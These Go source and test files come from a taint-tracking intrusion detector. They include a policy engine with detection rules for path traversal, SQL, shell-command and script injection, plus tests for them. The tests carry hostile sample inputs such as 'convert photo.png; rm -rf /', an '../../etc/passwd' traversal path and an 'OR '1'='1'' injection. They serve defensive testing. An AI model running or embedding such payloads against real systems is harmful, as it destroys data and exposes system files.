			if !o.Detected() {
				t.Errorf("keyed to %s: detection lost (exploit=%s/%s)",
					c.right, o.Exploit.Kind, o.Exploit.Policy)
			}
			o, err = EvaluateScenario(c.scn, EvalOptions{Gran: taint.Byte, Config: key(c.wrong)})
			if err != nil {
				t.Fatal(err)
			}
			if o.Exploit.Kind != c.suppressed {
				t.Errorf("keyed to %s: exploit verdict = %s/%s, want %s",
					c.wrong, o.Exploit.Kind, o.Exploit.Policy, c.suppressed)
			}
			if o.Exploit.Policy == c.scn.Expect {
				t.Errorf("keyed to %s: policy %s still attributed", c.wrong, c.scn.Expect)
			}
		})
	}
}

func scnOf(t *testing.T, program string) *Scenario {
	t.Helper()
	for _, s := range Corpus() {
		if s.Name == program {
			return s
		}
	}
	t.Fatalf("no corpus scenario %q", program)
	return nil
}

// TestVerdictKinds pins the trap-vs-sink split the harness reports:
// an L-policy detection must classify as a trap, an H-policy detection
// as a sink, and the two must never be conflated.
func TestVerdictKinds(t *testing.T) {
	for _, s := range Corpus() {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			t.Parallel()
			want := KindSink
			if s.Expect[0] == 'L' {
				want = KindTrap
			}
			if s.Kind != want {
				t.Fatalf("scenario kind %s disagrees with policy %s", s.Kind, s.Expect)
			}
			o, err := EvaluateScenario(s, EvalOptions{Gran: taint.Byte})
			if err != nil {
				t.Fatal(err)
			}
			if o.Exploit.Kind != want {
				t.Errorf("exploit verdict kind = %s, want %s (%s)", o.Exploit.Kind, want, o.Exploit.Detail)
			}
		})
	}
}

// TestCorpusMetadata pins the corpus shape and that every scenario's
// metadata is JSON-serialisable (shiftattack -list -json).
func TestCorpusMetadata(t *testing.T) {
	corpus := Corpus()
	if len(corpus) != 14 {
		t.Fatalf("corpus has %d scenarios, want 14", len(corpus))
	}
	seen := map[string]bool{}
	for _, s := range corpus {
		if seen[s.Name] {
			t.Errorf("duplicate scenario %q", s.Name)
		}
		seen[s.Name] = true
		if s.Kind != KindSink && s.Kind != KindTrap {
			t.Errorf("%s: bad kind %q", s.Name, s.Kind)
		}
		if s.Channel == 0 {
			t.Errorf("%s: no birth channel", s.Name)
		}
		if s.Expect == "" || s.Source == "" {
			t.Errorf("%s: incomplete attack metadata", s.Name)
		}
		if _, err := json.Marshal(s.Meta()); err != nil {
			t.Errorf("%s: metadata not serialisable: %v", s.Name, err)
		}
	}
}
