package attacks

import (
	"strings"
	"testing"

	"shift/internal/loader"
	"shift/internal/policy"
	"shift/internal/pool"
	"shift/internal/shift"
	"shift/internal/taint"
)

// poolBleedSource is a worker process the kind a prefork server keeps
// warm: request A arrives over the network (tainted) and is merely
// buffered; on an empty connection the worker instead services a local
// job — it reads a query from its trusted control channel (stdin is not
// a taint source) into the *same* scratch buffer and executes it.
const poolBleedSource = `
char buf[64];

void main() {
	int n = recv(buf, 64);
	if (n > 0) {
		exit(0);
	}
	n = read(0, buf, 64);
	sql_exec(buf);
	exit(0);
}
`

func bleedOptions() shift.Options {
	return shift.Options{Instrument: true, Policy: policy.DefaultConfig()}
}

// attackerWorld plants 64 tainted network bytes in the worker's buffer.
func attackerWorld() *shift.World {
	w := shift.NewWorld()
	rec := make([]byte, 64)
	copy(rec, "payload: anything tainted will do")
	w.NetIn = rec
	return w
}

// victimWorld runs the trusted-channel job: a well-formed query from
// stdin. Nothing in it is a taint source, so it must never alert.
func victimWorld() *shift.World {
	w := shift.NewWorld()
	w.Stdin = []byte("SELECT 'ok'")
	return w
}

// TestPoolRecycleTagBleed is the pool-recycle taint-bleed attack: a
// guest recycled by resetting registers and rewriting the data segment
// — but not the tag bitmap — carries request A's taint into request B.
// Request B's query bytes are written by a trusted host channel, which
// does not touch existing tags, so the stale tags land exactly under
// B's quote characters and H3 fires on a benign request. The bleed is a
// detection-integrity break an attacker triggers at will: spray taint,
// let recycling smuggle it, and every later tenant of the guest
// false-positives (alert denial of service, with forensics pointing at
// channels that never held the token).
//
// taint.Space.Clear is the fix; the third phase shows it, and
// TestPoolRunIsBleedFree shows internal/pool applying it.
func TestPoolRecycleTagBleed(t *testing.T) {
	prog, err := shift.Build([]shift.Source{{Name: "worker.mc", Text: poolBleedSource}}, bleedOptions())
	if err != nil {
		t.Fatal(err)
	}

	// Baseline: the victim job on a fresh guest is clean.
	fresh, err := shift.Run(prog, victimWorld(), bleedOptions())
	if err != nil {
		t.Fatal(err)
	}
	if fresh.Alert != nil || fresh.Trap != nil {
		t.Fatalf("victim job alerts on a fresh guest (alert=%v trap=%v) — test premise broken", fresh.Alert, fresh.Trap)
	}

	// One long-lived guest, reused across requests.
	img, err := loader.Load(prog)
	if err != nil {
		t.Fatal(err)
	}
	mach := img.NewMachine()
	regs := mach.SnapshotRegs()
	tags := taint.NewSpace(img.Mem, taint.Byte)
	runOn := func(w *shift.World) *shift.Result {
		t.Helper()
		w.HeapBase, w.StackTop = img.HeapBase, img.StackTop
		w.Tags = tags
		res, err := shift.RunOn(mach, w, bleedOptions())
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	// naiveRecycle is the pre-fix lifecycle: architectural registers
	// back to entry state, globals rewritten from the program image —
	// and the tag bitmap forgotten, because the loader's view of the
	// image does not include region 0.
	naiveRecycle := func() {
		t.Helper()
		mach.RestoreRegs(regs)
		if len(prog.Data) > 0 {
			if f := img.Mem.WriteBytes(prog.DataBase, prog.Data); f != nil {
				t.Fatal(f)
			}
		}
	}

	if res := runOn(attackerWorld()); res.Alert != nil || res.Trap != nil {
		t.Fatalf("attacker request should complete silently: alert=%v trap=%v", res.Alert, res.Trap)
	}

	naiveRecycle()
	res := runOn(victimWorld())
	if res.Alert == nil {
		t.Fatal("no bleed: victim ran clean on a naively recycled guest — the stale-tag hazard this test documents has silently disappeared")
	}
	if !strings.Contains(res.Alert.String(), "H3") {
		t.Fatalf("bleed surfaced as %v, want the smuggled tag to trip H3 on the victim's quotes", res.Alert)
	}

	// The fix: clear the tag space during recycle. Same guest, same
	// victim job, no alert.
	naiveRecycle()
	if n := tags.Clear(); n == 0 {
		t.Fatal("Clear found no tag pages; the attacker's taint never landed")
	}
	if res := runOn(victimWorld()); res.Alert != nil {
		t.Fatalf("victim still alerts after Space.Clear: %v", res.Alert)
	}
}

// TestPoolRunIsBleedFree drives the same attacker/victim pair through
// internal/pool, whose recycle path clears tags: the victim must stay
// clean on the guest the attacker just used.
func TestPoolRunIsBleedFree(t *testing.T) {
	prog, err := shift.Build([]shift.Source{{Name: "worker.mc", Text: poolBleedSource}}, bleedOptions())
	if err != nil {
		t.Fatal(err)
	}
	p, err := pool.New(prog, 1, bleedOptions())
	if err != nil {
		t.Fatal(err)
	}
	for round := 0; round < 3; round++ {
		if res, err := p.Run(attackerWorld()); err != nil || res.Alert != nil || res.Trap != nil {
			t.Fatalf("round %d attacker: err=%v alert=%v", round, err, res.Alert)
		}
		res, err := p.Run(victimWorld())
		if err != nil {
			t.Fatal(err)
		}
		if res.Alert != nil {
			t.Fatalf("round %d: stale tag bled through the pool recycle: %v", round, res.Alert)
		}
	}
	if st := p.Stats(); st.ClearedPages == 0 {
		t.Fatalf("pool recycles cleared no tag pages (stats %+v); Clear is not wired into the recycle path", st)
	}
}
