// Package policy implements SHIFT's security-policy layer: the part the
// paper deliberately keeps in software and decoupled from the tracking
// mechanism (§3, §5.1). It provides the Table 1 policy catalogue, a
// configuration-file parser (taint sources, enabled policies, wrap
// functions), character-granular checks for the high-level policies
// H1–H5 at syscall sinks, and the mapping from the machine's
// NaT-consumption faults to the low-level policies L1–L3.
package policy

import (
	"fmt"
	"strings"

	"shift/internal/machine"
	"shift/internal/taint"
)

// Rule describes one catalogue entry (Table 1).
type Rule struct {
	ID          string
	Attack      string
	Description string
}

// Catalog returns the paper's Table 1.
func Catalog() []Rule {
	return []Rule{
		{"H1", "Directory Traversal", "Tainted data cannot be used as an absolute file path"},
		{"H2", "Directory Traversal", "Tainted data cannot be used as a file path which traverses out of the document root"},
		{"H3", "SQL Injection", "Tainted data cannot contain SQL meta characters when used as part of a SQL string"},
		{"H4", "Command Injection", "Tainted data cannot contain shell meta characters when used as arguments to system()"},
		{"H5", "Cross Site Scripting", "No tainted script tag in HTML output"},
		{"L1", "De-referencing tainted pointer", "Tainted data cannot be used as a load address"},
		{"L2", "Format string vulnerability", "Tainted data cannot be used as a store address"},
		{"L3", "Modify critical CPU state", "Tainted data cannot be moved into special registers"},
	}
}

// Violation reports a detected policy breach. For the high-level sink
// policies it carries the sink data and its per-byte taint, the raw
// material for forensics (internal/forensics turns it into an intrusion
// signature, the feedback loop the paper's introduction describes).
type Violation struct {
	Policy string
	Detail string

	// Channels is the union of birth channels of the taint that fired
	// the policy (zero when the caller supplied no channel info).
	Channels taint.Channel

	// Sink context (high-level policies only).
	SinkLabel string // "open", "sql_exec", "system", "html_write"
	SinkData  []byte
	SinkTaint []bool
}

// Error implements the error interface.
func (v *Violation) Error() string {
	return fmt.Sprintf("security alert: policy %s: %s", v.Policy, v.Detail)
}

// Config is the parsed policy configuration — the paper's "configuration
// file for the instrumentation compiler" (§3.3.1).
type Config struct {
	Granularity taint.Granularity
	// Sources selects which OS channels produce tainted data:
	// "network", "file", "args", "stdin".
	Sources map[string]bool
	// Enabled lists active policies by ID (H1..H5, L1..L3).
	Enabled map[string]bool
	// Channels keys each enabled policy to the birth channels it
	// reacts to ("enable H2:net H3:net,file"). A missing or zero entry
	// means all channels, so configurations that never mention a
	// channel behave exactly as before.
	Channels map[string]taint.Channel
	// DocRoot is the document root for H2.
	DocRoot string
	// NoTrack lists functions the instrumentation pass must skip
	// (the paper's escape hatch for bounds-checked translation tables).
	NoTrack map[string]bool
}

// Clone returns a deep copy of the configuration, so a caller can vary
// one axis (granularity, a channel key) without mutating a shared base.
func (c *Config) Clone() *Config {
	nc := &Config{
		Granularity: c.Granularity,
		Sources:     make(map[string]bool, len(c.Sources)),
		Enabled:     make(map[string]bool, len(c.Enabled)),
		DocRoot:     c.DocRoot,
		NoTrack:     make(map[string]bool, len(c.NoTrack)),
	}
	for k, v := range c.Sources {
		nc.Sources[k] = v
	}
	for k, v := range c.Enabled {
		nc.Enabled[k] = v
	}
	for k, v := range c.NoTrack {
		nc.NoTrack[k] = v
	}
	if c.Channels != nil {
		nc.Channels = make(map[string]taint.Channel, len(c.Channels))
		for k, v := range c.Channels {
			nc.Channels[k] = v
		}
	}
	return nc
}

// DefaultConfig enables every policy with network+file sources at
// byte-level granularity.
func DefaultConfig() *Config {
	c := &Config{
		Granularity: taint.Byte,
		Sources:     map[string]bool{"network": true, "file": true, "args": true},
		Enabled:     make(map[string]bool),
		DocRoot:     "/www",
		NoTrack:     make(map[string]bool),
	}
	for _, r := range Catalog() {
		c.Enabled[r.ID] = true
	}
	return c
}

// Parse reads the textual configuration format:
//
//	# taint sources and policies for the wiki frontend
//	granularity byte
//	source network
//	source file
//	docroot /www
//	enable H2 H5 L1 L2 L3
//	notrack lookup_table
//
// An enable entry may key a policy to specific birth channels with
// "ID:chan[,chan...]" — e.g. "enable H2:net H3:net,file" — restricting
// that policy to taint born from those channels. Entries without a
// channel list react to every channel (the default, so existing
// configurations are unchanged).
//
// Unknown directives are errors; an empty "enable" list enables nothing.
func Parse(text string) (*Config, error) {
	c := &Config{
		Granularity: taint.Byte,
		Sources:     make(map[string]bool),
		Enabled:     make(map[string]bool),
		DocRoot:     "/www",
		NoTrack:     make(map[string]bool),
	}
	known := make(map[string]bool)
	for _, r := range Catalog() {
		known[r.ID] = true
	}
	for ln, raw := range strings.Split(text, "\n") {
		line := strings.TrimSpace(raw)
		if i := strings.IndexByte(line, '#'); i >= 0 {
			line = strings.TrimSpace(line[:i])
		}
		if line == "" {
			continue
		}
		fields := strings.Fields(line)
		switch fields[0] {
		case "granularity":
			if len(fields) != 2 {
				return nil, fmt.Errorf("policy: line %d: granularity needs one argument", ln+1)
			}
			switch fields[1] {
			case "byte":
				c.Granularity = taint.Byte
			case "word":
				c.Granularity = taint.Word
			default:
				return nil, fmt.Errorf("policy: line %d: unknown granularity %q", ln+1, fields[1])
			}
		case "source":
			for _, s := range fields[1:] {
				switch s {
				case "network", "file", "args", "stdin":
					c.Sources[s] = true
				default:
					return nil, fmt.Errorf("policy: line %d: unknown source %q", ln+1, s)
				}
			}
		case "docroot":
			if len(fields) != 2 {
				return nil, fmt.Errorf("policy: line %d: docroot needs one argument", ln+1)
			}
			c.DocRoot = fields[1]
		case "enable":
			for _, tok := range fields[1:] {
				id, spec, hasSpec := strings.Cut(tok, ":")
				if !known[id] {
					return nil, fmt.Errorf("policy: line %d: unknown policy %q", ln+1, id)
				}
				c.Enabled[id] = true
				if !hasSpec {
					continue
				}
				var mask taint.Channel
				for _, name := range strings.Split(spec, ",") {
					ch, ok := taint.ParseChannel(name)
					if !ok {
						return nil, fmt.Errorf("policy: line %d: unknown channel %q for policy %s", ln+1, name, id)
					}
					mask |= ch
				}
				if c.Channels == nil {
					c.Channels = make(map[string]taint.Channel)
				}
				c.Channels[id] = mask
			}
		case "notrack":
			for _, fn := range fields[1:] {
				c.NoTrack[fn] = true
			}
		default:
			return nil, fmt.Errorf("policy: line %d: unknown directive %q", ln+1, fields[0])
		}
	}
	return c, nil
}

// Engine evaluates policies against tainted data at syscall sinks and
// classifies NaT-consumption traps.
type Engine struct {
	Conf *Config
	// Alerts accumulates every violation seen (detection does not stop
	// at the first when running in audit mode).
	Alerts []*Violation
}

// NewEngine builds an engine over a configuration.
func NewEngine(conf *Config) *Engine {
	if conf == nil {
		conf = DefaultConfig()
	}
	return &Engine{Conf: conf}
}

func (e *Engine) on(id string) bool { return e.Conf.Enabled[id] }

func (e *Engine) raise(id, format string, args ...interface{}) *Violation {
	v := &Violation{Policy: id, Detail: fmt.Sprintf(format, args...)}
	e.Alerts = append(e.Alerts, v)
	return v
}

// raiseAt raises a violation carrying its sink context.
func (e *Engine) raiseAt(id, sink string, data []byte, tb []bool, format string, args ...interface{}) *Violation {
	v := e.raise(id, format, args...)
	v.SinkLabel = sink
	v.SinkData = append([]byte(nil), data...)
	v.SinkTaint = append([]bool(nil), tb...)
	return v
}

// anyTainted reports whether tb marks any of the byte positions in idxs.
func anyTainted(tb []bool, idxs ...int) bool {
	for _, i := range idxs {
		if i >= 0 && i < len(tb) && tb[i] {
			return true
		}
	}
	return false
}

// anyTaintedRange reports whether tb marks any byte in [i, j).
func anyTaintedRange(tb []bool, i, j int) bool {
	for k := i; k < j && k < len(tb); k++ {
		if k >= 0 && tb[k] {
			return true
		}
	}
	return false
}

// chanMask returns the channel mask policy id reacts to (ChanAll when
// no per-channel keying is configured).
func (e *Engine) chanMask(id string) taint.Channel {
	if e.Conf.Channels == nil {
		return taint.ChanAll
	}
	if m := e.Conf.Channels[id]; m != 0 {
		return m
	}
	return taint.ChanAll
}

// effTaint filters the per-byte taint bitmap down to the bytes whose
// birth channel intersects policy id's mask. A byte with no recorded
// channel (cb[i]==0, or no channel info supplied at all) stays tainted —
// unknown provenance is treated conservatively.
func (e *Engine) effTaint(id string, tb []bool, cb []taint.Channel) []bool {
	mask := e.chanMask(id)
	if mask == taint.ChanAll || cb == nil {
		return tb
	}
	out := make([]bool, len(tb))
	for i, t := range tb {
		if t && (i >= len(cb) || cb[i] == 0 || cb[i]&mask != 0) {
			out[i] = true
		}
	}
	return out
}

// chanUnion returns the union of birth channels over the tainted bytes.
func chanUnion(tb []bool, cb []taint.Channel) taint.Channel {
	var u taint.Channel
	for i, t := range tb {
		if t && i < len(cb) {
			u |= cb[i]
		}
	}
	return u
}

// optChans unpacks the optional trailing channel-bitmap argument the
// sink checks accept.
func optChans(chans [][]taint.Channel) []taint.Channel {
	if len(chans) > 0 {
		return chans[0]
	}
	return nil
}

// CheckOpen applies H1 and H2 to a file path about to be opened.
// tb holds per-byte taint for the path string; an optional per-byte
// channel bitmap keys the checks to configured birth channels.
func (e *Engine) CheckOpen(path string, tb []bool, chans ...[]taint.Channel) *Violation {
	cb := optChans(chans)
	if e.on("H1") && strings.HasPrefix(path, "/") {
		etb := e.effTaint("H1", tb, cb)
		// The attack target is named by the path head: the leading
		// slash or the first real segment. Taint anywhere in that head
		// means the absolute destination came from tainted input, even
		// when byte 0 itself is clean ("/" + tainted "etc/passwd") or
		// hidden behind "//" and "/./" normalization noise.
		i, j := firstRealSegment(path)
		if anyTainted(etb, 0) || anyTaintedRange(etb, i, j) {
			v := e.raiseAt("H1", "open", []byte(path), tb, "tainted absolute path %q", path)
			v.Channels = chanUnion(tb, cb)
			return v
		}
	}
	if e.on("H2") {
		if v := e.checkTraversal(path, e.effTaint("H2", tb, cb)); v != nil {
			v.SinkTaint = append([]bool(nil), tb...)
			v.Channels = chanUnion(tb, cb)
			return v
		}
	}
	return nil
}

// firstRealSegment locates [i, j) of the first path segment that is not
// empty or "." — the component H1 treats as the head of an absolute
// path. Returns (0, 0) when the path has no real segment.
func firstRealSegment(path string) (int, int) {
	i := 0
	for i < len(path) {
		j := i
		for j < len(path) && path[j] != '/' {
			j++
		}
		if seg := path[i:j]; seg != "" && seg != "." {
			return i, j
		}
		i = j + 1
	}
	return 0, 0
}

// checkTraversal walks the path segments tracking depth relative to the
// document root; a tainted ".." that climbs out of the root violates H2.
func (e *Engine) checkTraversal(path string, tb []bool) *Violation {
	rel := path
	depth := 0
	// Trim the document root only at a path-component boundary:
	// "/wwwtmp/.." is outside "/www" and must not have "/www" eaten
	// out of its first segment.
	if root := e.Conf.DocRoot; path == root || strings.HasPrefix(path, root+"/") {
		rel = strings.TrimPrefix(path, root)
	}
	off := len(path) - len(rel)
	i := 0
	for i < len(rel) {
		j := i
		for j < len(rel) && rel[j] != '/' {
			j++
		}
		seg := rel[i:j]
		switch seg {
		case "", ".":
		case "..":
			depth--
			if depth < 0 && anyTainted(tb, off+i, off+i+1) {
				return e.raiseAt("H2", "open", []byte(path), tb,
					"tainted path %q traverses out of document root %q", path, e.Conf.DocRoot)
			}
		default:
			depth++
		}
		i = j + 1
	}
	return nil
}

// sqlMeta are the characters H3 forbids from tainted input inside a query.
const sqlMeta = `'";`

// CheckSQL applies H3 to a query string.
func (e *Engine) CheckSQL(query string, tb []bool, chans ...[]taint.Channel) *Violation {
	if !e.on("H3") {
		return nil
	}
	cb := optChans(chans)
	etb := e.effTaint("H3", tb, cb)
	for i := 0; i < len(query); i++ {
		if strings.IndexByte(sqlMeta, query[i]) >= 0 && anyTainted(etb, i) {
			v := e.raiseAt("H3", "sql_exec", []byte(query), tb,
				"tainted SQL meta character %q at offset %d of %q", query[i], i, query)
			v.Channels = chanUnion(tb, cb)
			return v
		}
		// "--" comment introducer from tainted input.
		if query[i] == '-' && i+1 < len(query) && query[i+1] == '-' && anyTainted(etb, i, i+1) {
			v := e.raiseAt("H3", "sql_exec", []byte(query), tb,
				"tainted SQL comment introducer at offset %d of %q", i, query)
			v.Channels = chanUnion(tb, cb)
			return v
		}
	}
	return nil
}

// shellMeta are the characters H4 forbids from tainted input to system().
const shellMeta = ";|&`$><\n"

// CheckSystem applies H4 to a shell command.
func (e *Engine) CheckSystem(cmd string, tb []bool, chans ...[]taint.Channel) *Violation {
	if !e.on("H4") {
		return nil
	}
	cb := optChans(chans)
	etb := e.effTaint("H4", tb, cb)
	for i := 0; i < len(cmd); i++ {
		if strings.IndexByte(shellMeta, cmd[i]) >= 0 && anyTainted(etb, i) {
			v := e.raiseAt("H4", "system", []byte(cmd), tb,
				"tainted shell meta character %q at offset %d of %q", cmd[i], i, cmd)
			v.Channels = chanUnion(tb, cb)
			return v
		}
	}
	return nil
}

// CheckHTML applies H5 to a chunk of HTML output: a script tag whose
// characters came from tainted input is an XSS attempt.
func (e *Engine) CheckHTML(buf []byte, tb []bool, chans ...[]taint.Channel) *Violation {
	if !e.on("H5") {
		return nil
	}
	cb := optChans(chans)
	etb := e.effTaint("H5", tb, cb)
	lower := strings.ToLower(string(buf))
	for i := 0; ; {
		j := strings.Index(lower[i:], "<script")
		if j < 0 {
			return nil
		}
		at := i + j
		if anyTainted(etb, at, at+1, at+2, at+3, at+4, at+5, at+6) {
			v := e.raiseAt("H5", "html_write", buf, tb, "tainted <script> tag at output offset %d", at)
			v.Channels = chanUnion(tb, cb)
			return v
		}
		i = at + 1
	}
}

// ClassifyTrap maps a NaT-consumption fault to its low-level policy.
// It returns nil for traps that are not policy violations or when the
// corresponding policy is disabled.
//
// The optional live argument is the union of birth channels currently
// live in the address space. Register NaT bits carry no provenance (the
// hardware token is one bit), so an L-policy keyed to specific channels
// is suppressed only when *no* live channel intersects its mask — a
// documented over-approximation: with several channels live, a trap is
// attributed to all of them.
func (e *Engine) ClassifyTrap(t *machine.Trap, live ...taint.Channel) *Violation {
	if t == nil {
		return nil
	}
	var liveCh taint.Channel
	for _, ch := range live {
		liveCh |= ch
	}
	fire := func(id, format string, args ...interface{}) *Violation {
		if !e.on(id) {
			return nil
		}
		if liveCh != 0 && liveCh&e.chanMask(id) == 0 {
			return nil
		}
		v := e.raise(id, format, args...)
		v.Channels = liveCh
		return v
	}
	switch t.Kind {
	case machine.TrapNaTLoadAddr:
		return fire("L1", "tainted pointer dereferenced as a load address (pc=%d, addr=%#x)", t.PC, t.Addr)
	case machine.TrapNaTStoreAddr, machine.TrapNaTStoreData:
		return fire("L2", "tainted data reached a store (pc=%d, addr=%#x)", t.PC, t.Addr)
	case machine.TrapNaTBranch, machine.TrapNaTSyscall:
		return fire("L3", "tainted data moved into critical CPU state (pc=%d, r%d)", t.PC, t.Reg)
	}
	return nil
}
