package policy

import (
	"strings"
	"testing"

	"shift/internal/machine"
	"shift/internal/taint"
)

func TestCatalog(t *testing.T) {
	cat := Catalog()
	if len(cat) != 8 {
		t.Fatalf("catalogue has %d rows, want 8", len(cat))
	}
	want := []string{"H1", "H2", "H3", "H4", "H5", "L1", "L2", "L3"}
	for i, r := range cat {
		if r.ID != want[i] {
			t.Errorf("row %d: %s, want %s", i, r.ID, want[i])
		}
		if r.Attack == "" || r.Description == "" {
			t.Errorf("row %s incomplete", r.ID)
		}
	}
}

func TestParse(t *testing.T) {
	conf, err := Parse(`
# full server policy
granularity word
source network file
docroot /srv/site
enable H2 H5 L1 L2 L3
notrack lookup hash_probe
`)
	if err != nil {
		t.Fatal(err)
	}
	if conf.Granularity != taint.Word {
		t.Error("granularity not parsed")
	}
	if !conf.Sources["network"] || !conf.Sources["file"] || conf.Sources["args"] {
		t.Errorf("sources = %v", conf.Sources)
	}
	if conf.DocRoot != "/srv/site" {
		t.Errorf("docroot = %q", conf.DocRoot)
	}
	if !conf.Enabled["H2"] || conf.Enabled["H1"] {
		t.Errorf("enabled = %v", conf.Enabled)
	}
	if !conf.NoTrack["lookup"] || !conf.NoTrack["hash_probe"] {
		t.Errorf("notrack = %v", conf.NoTrack)
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"granularity nibble\n",
		"granularity\n",
		"source carrier-pigeon\n",
		"enable H9\n",
		"docroot\n",
		"frobnicate on\n",
	}
	for _, src := range bad {
		if _, err := Parse(src); err == nil {
			t.Errorf("accepted %q", src)
		}
	}
}

func TestDefaultConfigEnablesEverything(t *testing.T) {
	c := DefaultConfig()
	for _, r := range Catalog() {
		if !c.Enabled[r.ID] {
			t.Errorf("default config disables %s", r.ID)
		}
	}
}

// tb builds a taint vector with the given indices set.
func tb(n int, tainted ...int) []bool {
	out := make([]bool, n)
	for _, i := range tainted {
		out[i] = true
	}
	return out
}

func TestH1AbsolutePath(t *testing.T) {
	e := NewEngine(nil)
	if v := e.CheckOpen("/etc/passwd", tb(11, 0)); v == nil || v.Policy != "H1" {
		t.Errorf("tainted absolute path: %v", v)
	}
	if v := e.CheckOpen("/www/x", tb(6)); v != nil {
		t.Errorf("clean absolute path flagged: %v", v)
	}
	if v := e.CheckOpen("relative/path", tb(13, 0)); v != nil {
		t.Errorf("tainted relative path flagged as H1: %v", v)
	}
}

func TestH2Traversal(t *testing.T) {
	e := NewEngine(nil)
	// Tainted ".." escaping the root fires.
	path := "/www/pages/../../etc/passwd"
	marks := tb(len(path))
	for i := strings.Index(path, ".."); i < len(path); i++ {
		marks[i] = true
	}
	if v := e.checkTraversal(path, marks); v == nil || v.Policy != "H2" {
		t.Errorf("escaping traversal not caught: %v", v)
	}
	// ".." that stays inside the root is fine.
	inside := "/www/a/b/../c"
	if v := e.checkTraversal(inside, tb(len(inside), 9, 10)); v != nil {
		t.Errorf("inside-root traversal flagged: %v", v)
	}
	// Untainted ".." escaping the root is the program's own business.
	if v := e.checkTraversal(path, tb(len(path))); v != nil {
		t.Errorf("clean traversal flagged: %v", v)
	}
}

func TestH3SQLMeta(t *testing.T) {
	e := NewEngine(nil)
	q := "SELECT x FROM t WHERE id = '1' OR '1'='1'"
	i := strings.Index(q, "'1' OR")
	marks := tb(len(q))
	for j := i; j < len(q); j++ {
		marks[j] = true
	}
	if v := e.CheckSQL(q, marks); v == nil || v.Policy != "H3" {
		t.Errorf("tainted quote not caught: %v", v)
	}
	if v := e.CheckSQL(q, tb(len(q))); v != nil {
		t.Errorf("clean query flagged: %v", v)
	}
	// The "--" comment introducer.
	q2 := "SELECT x FROM t WHERE a=1 --drop"
	at := strings.Index(q2, "--")
	if v := e.CheckSQL(q2, tb(len(q2), at, at+1)); v == nil {
		t.Error("tainted comment introducer not caught")
	}
}

func TestH4ShellMeta(t *testing.T) {
	e := NewEngine(nil)
	cmd := "convert photo.png; rm -rf /"
	at := strings.IndexByte(cmd, ';')
	if v := e.CheckSystem(cmd, tb(len(cmd), at)); v == nil || v.Policy != "H4" {
		t.Errorf("tainted semicolon not caught: %v", v)
	}
	if v := e.CheckSystem(cmd, tb(len(cmd))); v != nil {
		t.Errorf("clean command flagged: %v", v)
	}
}

func TestH5ScriptTag(t *testing.T) {
	e := NewEngine(nil)
	page := "<html><SCRIPT>x()</SCRIPT></html>"
	at := strings.Index(strings.ToLower(page), "<script")
	if v := e.CheckHTML([]byte(page), tb(len(page), at)); v == nil || v.Policy != "H5" {
		t.Errorf("tainted script tag not caught: %v", v)
	}
	// A template's own script tag is fine.
	if v := e.CheckHTML([]byte(page), tb(len(page))); v != nil {
		t.Errorf("clean script tag flagged: %v", v)
	}
	// Second occurrence tainted, first clean.
	page2 := "<script>ok()</script><script>evil()</script>"
	second := strings.LastIndex(page2, "<script")
	if v := e.CheckHTML([]byte(page2), tb(len(page2), second+3)); v == nil {
		t.Error("tainted second script tag not caught")
	}
}

func TestClassifyTrap(t *testing.T) {
	e := NewEngine(nil)
	cases := []struct {
		kind machine.TrapKind
		want string
	}{
		{machine.TrapNaTLoadAddr, "L1"},
		{machine.TrapNaTStoreAddr, "L2"},
		{machine.TrapNaTStoreData, "L2"},
		{machine.TrapNaTBranch, "L3"},
		{machine.TrapNaTSyscall, "L3"},
	}
	for _, c := range cases {
		v := e.ClassifyTrap(&machine.Trap{Kind: c.kind})
		if v == nil || v.Policy != c.want {
			t.Errorf("%v classified as %v, want %s", c.kind, v, c.want)
		}
	}
	if v := e.ClassifyTrap(&machine.Trap{Kind: machine.TrapDivZero}); v != nil {
		t.Errorf("non-policy trap classified: %v", v)
	}
	if v := e.ClassifyTrap(nil); v != nil {
		t.Errorf("nil trap classified: %v", v)
	}
}

func TestDisabledPoliciesStaySilent(t *testing.T) {
	conf := DefaultConfig()
	conf.Enabled = map[string]bool{}
	e := NewEngine(conf)
	if v := e.CheckOpen("/etc/passwd", tb(11, 0)); v != nil {
		t.Errorf("disabled H1 fired: %v", v)
	}
	if v := e.ClassifyTrap(&machine.Trap{Kind: machine.TrapNaTLoadAddr}); v != nil {
		t.Errorf("disabled L1 fired: %v", v)
	}
}

func TestAlertsAccumulate(t *testing.T) {
	e := NewEngine(nil)
	e.CheckOpen("/etc/passwd", tb(11, 0))
	e.CheckSystem("x;y", tb(3, 1))
	if len(e.Alerts) != 2 {
		t.Errorf("alerts = %d, want 2", len(e.Alerts))
	}
	if !strings.Contains(e.Alerts[0].Error(), "H1") {
		t.Error("alert message lacks policy id")
	}
}
