package policy

import (
	"strings"
	"testing"

	"shift/internal/machine"
	"shift/internal/taint"
)

func TestCatalog(t *testing.T) {
	cat := Catalog()
	if len(cat) != 8 {
		t.Fatalf("catalogue has %d rows, want 8", len(cat))
	}
	want := []string{"H1", "H2", "H3", "H4", "H5", "L1", "L2", "L3"}
	for i, r := range cat {
		if r.ID != want[i] {
			t.Errorf("row %d: %s, want %s", i, r.ID, want[i])
		}
		if r.Attack == "" || r.Description == "" {
			t.Errorf("row %s incomplete", r.ID)
		}
	}
}

func TestParse(t *testing.T) {
	conf, err := Parse(`
# full server policy
granularity word
source network file
docroot /srv/site
enable H2 H5 L1 L2 L3
notrack lookup hash_probe
`)
	if err != nil {
		t.Fatal(err)
	}
	if conf.Granularity != taint.Word {
		t.Error("granularity not parsed")
	}
	if !conf.Sources["network"] || !conf.Sources["file"] || conf.Sources["args"] {
		t.Errorf("sources = %v", conf.Sources)
	}
	if conf.DocRoot != "/srv/site" {
		t.Errorf("docroot = %q", conf.DocRoot)
	}
	if !conf.Enabled["H2"] || conf.Enabled["H1"] {
		t.Errorf("enabled = %v", conf.Enabled)
	}
	if !conf.NoTrack["lookup"] || !conf.NoTrack["hash_probe"] {
		t.Errorf("notrack = %v", conf.NoTrack)
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"granularity nibble\n",
		"granularity\n",
		"source carrier-pigeon\n",
		"enable H9\n",
		"docroot\n",
		"frobnicate on\n",
	}
	for _, src := range bad {
		if _, err := Parse(src); err == nil {
			t.Errorf("accepted %q", src)
		}
	}
}

func TestDefaultConfigEnablesEverything(t *testing.T) {
	c := DefaultConfig()
	for _, r := range Catalog() {
		if !c.Enabled[r.ID] {
			t.Errorf("default config disables %s", r.ID)
		}
	}
}

